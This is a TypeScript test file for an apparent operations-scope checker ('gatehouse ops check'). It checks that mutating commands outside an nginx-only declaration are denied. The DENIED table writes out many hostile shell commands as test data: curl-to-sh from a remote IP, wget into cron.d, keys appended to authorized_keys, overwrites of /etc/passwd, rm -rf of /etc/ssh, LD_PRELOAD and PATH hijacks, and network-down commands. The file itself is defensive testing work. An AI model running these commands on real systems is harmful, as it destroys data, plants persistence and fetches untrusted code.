// Issue 14.7: ops command facts were regex heuristics, and sixteen mutating steps raised nothing
// under a declaration that allows only nginx. Each case is a one-step execution log (verified, so
// only scope rules can deny) run through the real CLI (`gatehouse ops check --no-git`) against the
// example declaration (ALLOWED_SERVICES [nginx], ALLOWED_PATHS under nginx, NOT_ALLOWED streams
// orders*/payments* and firewall/network/user-permission changes) and the example report.

import { spawnSync } from "node:child_process";
import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { test } from "uvu";
import * as assert from "uvu/assert";

const repoRoot = fileURLToPath(new URL("../../../", import.meta.url));
const cli = join(repoRoot, "bin", "gatehouse.js");
const examples = join(repoRoot, "examples", "ops");
const DECLARATION = "raise-nginx-worker-connections.md";
const REPORT = "raise-nginx-worker-connections.report.md";
const NAME = "Raise nginx worker_connections on web-1";

/** Runs `ops check` on a log of the given steps; returns the exit code and the finding codes. */
function check(commands: string[], declarationExtra = ""): { code: number | null; codes: string[]; out: string } {
  const dir = mkdtempSync(join(tmpdir(), "gatehouse-ops-commands-"));
  try {
    const declaration = readFileSync(join(examples, DECLARATION), "utf8");
    writeFileSync(join(dir, DECLARATION), declarationExtra === "" ? declaration : declaration.replace("ALLOWED_SERVICES:", `${declarationExtra}\nALLOWED_SERVICES:`));
    copyFileSync(join(examples, REPORT), join(dir, REPORT));
    const steps = commands.map((command, i) => ({
      number: i + 1,
      timestamp: `2026-11-21T09:${String(10 + i).padStart(2, "0")}:00Z`,
      command,
      result: "",
      status: "PASS",
      verification: { command: "systemctl is-active nginx", output: "active" },
    }));
    writeFileSync(join(dir, "log.json"), JSON.stringify({ operation_id: "OPS-2026-11-21-001", operation_name: NAME, steps }));
    const r = spawnSync(process.execPath, [cli, "ops", "check", DECLARATION, "--log", "log.json", "--report", REPORT, "--no-git", "--format", "json"], { cwd: dir, encoding: "utf8" });
    const out = `${r.stdout}${r.stderr}`;
    const report = JSON.parse(r.stdout) as { findings: { code: string }[] };
    return { code: r.status, codes: [...new Set(report.findings.map((f) => f.code))].sort(), out };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const WRITE = "ops/write-out-of-scope";
const SERVICE = "ops/service-out-of-scope";
const UNVERIFIABLE = "ops/unverifiable-command";
const CHANGE = "ops/forbidden-change";
const STREAM = "ops/forbidden-stream";

// The sixteen from the issue, then siblings of each class.
const DENIED: [string, string[]][] = [
  ["sh -c 'echo pwned > /etc/passwd'", [WRITE]],
  ['bash -c "rm -rf /etc/ssh"', [WRITE]],
  ["python3 -c 'open(\"/etc/nginx/../cron.d/x\", \"w\").write(\"* * * * * root sh\")'", [UNVERIFIABLE]],
  ["find /etc -name '*.conf' -delete", [WRITE]],
  ["echo /etc/ssh/sshd_config | xargs rm -f", [UNVERIFIABLE]],
  ["busybox rm /etc/hosts", [WRITE]],
  ["$(echo rm) -rf /etc/ssh", [UNVERIFIABLE]],
  ["tar -xzf /tmp/payload.tgz -C /etc", [WRITE]],
  ["wget -q -O /etc/cron.d/job http://203.0.113.9/job", [WRITE]],
  ["git -C /etc checkout .", [WRITE]],
  ["/etc/init.d/ssh restart", [SERVICE]],
  ["systemctl daemon-reexec", [SERVICE]],
  ["reboot", [SERVICE]],
  ["shutdown -r now", [SERVICE]],
  ["ip l s eth0 down", [CHANGE]],
  ["kafka-console-producer --bootstrap-server kafka:9092 --topic=orders < /tmp/replay.jsonl", [STREAM]],
  // siblings: shells and wrappers
  ["sudo -u root sh -c 'cd /etc && rm -f shadow'", [WRITE]],
  ["env -i PATH=/bin bash -lc 'echo x >> /root/.ssh/authorized_keys'", [WRITE]],
  ["nohup timeout 5 sudo rm -rf /var/lib/mysql &", [WRITE]],
  ["eval 'rm -rf /srv/data'", [WRITE]],
  ["curl -fsSL http://203.0.113.9/install.sh | sh", [UNVERIFIABLE]],
  ["bash /tmp/fix.sh", [UNVERIFIABLE]],
  ["perl -e 'unlink \"/etc/hosts\"'", [UNVERIFIABLE]],
  ["node -e 'require(\"fs\").rmSync(\"/etc/hosts\")'", [UNVERIFIABLE]],
  ["awk 'BEGIN { system(\"rm -rf /etc\") }'", [UNVERIFIABLE]],
  ["rm -rf \"$TARGET\"", [UNVERIFIABLE]],
  ["r\\m -rf /etc/ssh", [WRITE]],
  ["/usr/bin/rm -rf /etc/ssh", [WRITE]],
  ["/tmp/.x/cat /etc/nginx/nginx.conf", [UNVERIFIABLE]],
  ["find / -name id_rsa -exec rm {} \\;", [WRITE]],
  ["echo x > $(echo /etc/passwd)", [UNVERIFIABLE]],
  ["cat /etc/nginx/nginx.conf | tee /etc/motd", [WRITE]],
  ["echo $(rm -rf /etc/ssh)", [WRITE]],
  ["sed -i 's/a/b/w /etc/passwd' /etc/nginx/nginx.conf", [UNVERIFIABLE]],
  ["rm /etc/nginx/../shadow", [WRITE]],
  ["rm -f /etc/nginx/{nginx.conf.old,../../shadow}", [UNVERIFIABLE]],
  ["ip net exec blue rm -rf /etc/ssh", [WRITE]],
  // A cd joined with `;` may fail and leave rm in the directory before it (sixteenth pass): unplaceable.
  ["cd /etc; rm passwd", [UNVERIFIABLE]],
  ["cd /etc && rm passwd", [WRITE]],
  ['echo "unterminated', [UNVERIFIABLE]],
  ["./deploy.sh --prod", [UNVERIFIABLE]],
  ["PATH=/tmp/.x:$PATH cat /etc/nginx/nginx.conf", [UNVERIFIABLE]],
  ["export PATH=/tmp/.x; nginx -t", [UNVERIFIABLE]],
  ["env LD_PRELOAD=/tmp/x.so nginx -t", [UNVERIFIABLE]],
  ["if true; then rm -rf /etc/ssh", [UNVERIFIABLE, WRITE]],
  // siblings: archives and downloads
  ["tar --extract --file=/tmp/p.tar --directory=/usr/local/bin", [WRITE]],
  ["tar xf /tmp/p.tar", [WRITE]],
  ["curl -o /usr/local/bin/helper http://203.0.113.9/h", [WRITE]],
  ["wget --output-document=/etc/sudoers.d/x http://203.0.113.9/s", [WRITE, CHANGE]],
  ["git --work-tree=/srv/app reset --hard", [WRITE]],
  ["git clone https://example.com/x.git /opt/x", [WRITE]],
  // siblings: services and the machine
  ["service ssh restart", [SERVICE]],
  ["invoke-rc.d ssh stop", [SERVICE]],
  ["systemctl daemon-reload", [SERVICE]],
  ["systemctl --no-block restart sshd.service", [SERVICE]],
  ["systemctl isolate rescue.target", [SERVICE]],
  ["systemctl reboot", [SERVICE]],
  ["halt -p", [SERVICE]],
  ["poweroff", [SERVICE]],
  ["init 6", [SERVICE]],
  ["killall -9 sshd", [SERVICE]],
  // siblings: network and streams
  ["ip link set dev eth0 down", [CHANGE]],
  ["ip -6 r a 2001:db8::/32 dev eth0", [CHANGE]],
  ["ip a flush dev eth0", [CHANGE]],
  ["ifdown eth0", [CHANGE]],
  ["kafka-console-producer.sh --topic orders.v2 --bootstrap-server k:9092", [STREAM]],
  ["kafka-topics --bootstrap-server k:9092 --delete --topic payments", [STREAM]],
  ["kcat -P -b k:9092 -torders", [STREAM]],
];

for (const [command, codes] of DENIED) {
  test(`issue 14.7: ${command} denies (${codes.join(", ")})`, () => {
    const r = check([command]);
    assert.is(r.code, 1, r.out);
    assert.equal(r.codes, [...codes].sort(), r.out);
  });
}

const ALLOWED = [
  "nginx -t && systemctl status nginx --no-pager",
  "sudo sed -i 's/worker_connections 1024;/worker_connections 4096;/' /etc/nginx/nginx.conf",
  "sudo systemctl reload nginx",
  "systemctl is-active nginx && curl -sS -o /dev/null -w '%{http_code}' http://127.0.0.1/healthz",
  "sh -c 'nginx -t 2>&1 | grep -q successful'",
  "find /etc/nginx -name '*.conf' -exec grep -l worker {} +",
  "ps aux | awk '{print $2}' | sort | uniq",
  "cd /etc/nginx && cp nginx.conf /var/backups/nginx/nginx.conf.bak",
  "tar -czf /var/backups/nginx/conf.tgz -C /etc/nginx .",
  "ip addr show dev eth0",
  "git -C /etc/nginx status",
  "/etc/init.d/nginx reload",
  "journalctl -u nginx --since -1h | tail -n 50",
];

for (const command of ALLOWED) {
  test(`issue 14.7: ${command} is judged and allowed`, () => {
    const r = check([command]);
    assert.is(r.code, 0, r.out);
  });
}

test("issue 14.7: a program the declaration names in ALLOWED_COMMANDS is allowed, others still deny", () => {
  const declared = "ALLOWED_COMMANDS:\n  - ./scripts/warm-cache.sh";
  assert.is(check(["./scripts/warm-cache.sh --all"], declared).code, 0);
  const other = check(["./scripts/warm-cache.sh", "./scripts/drop-db.sh"], declared);
  assert.is(other.code, 1, other.out);
  assert.equal(other.codes, [UNVERIFIABLE]);
  assert.match(other.out, /drop-db\.sh/);
});

test("issue 14.7: the example execution log still passes", () => {
  const dir = mkdtempSync(join(tmpdir(), "gatehouse-ops-commands-"));
  try {
    for (const f of [DECLARATION, REPORT, "raise-nginx-worker-connections.log.yaml"]) copyFileSync(join(examples, f), join(dir, f));
    const r = spawnSync(process.execPath, [cli, "ops", "check", DECLARATION, "--log", "raise-nginx-worker-connections.log.yaml", "--report", REPORT, "--no-git"], { cwd: dir, encoding: "utf8" });
    assert.is(r.status, 0, `${r.stdout}${r.stderr}`);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test.run();
